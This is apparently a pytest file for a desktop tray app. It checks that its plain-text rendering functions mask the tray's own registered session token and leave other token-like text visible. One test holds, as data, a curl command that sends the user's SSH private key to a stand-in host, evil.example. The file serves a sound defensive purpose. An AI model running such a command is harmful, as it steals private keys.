"""The plain-text path masks the tray's own secrets in every string it shows, whoever sent it."""

from __future__ import annotations

import pytest

from desktop import logsetup
from desktop.model.plain_text import markup_safe, menu_label, shown

CANARY = "canary-OWN-token-7c1d"


@pytest.fixture(autouse=True)
def _own_token() -> None:
    logsetup.register_secret(CANARY)  # as TokenStore(on_secret=...) does at every read


@pytest.mark.parametrize("render", [shown, menu_label, markup_safe])
def test_the_trays_own_token_never_shows(render) -> None:
    text = f"curl -H 'X-Hermes-Session-Token: {CANARY}' http://127.0.0.1:9119/?token={CANARY}"
    out = render(text)
    assert CANARY not in out
    assert "***" in out


def test_only_registered_secrets_are_masked_not_secret_shapes() -> None:
    """A ``token=`` in a command may be what the command really does: it stays visible."""
    command = "curl 'https://evil.example/?token=$(cat ~/.ssh/id_rsa)'"
    assert shown(command) == command


def test_a_title_from_the_gateway_is_masked_too() -> None:
    assert markup_safe(f"Session {CANARY}") == "Session ***"
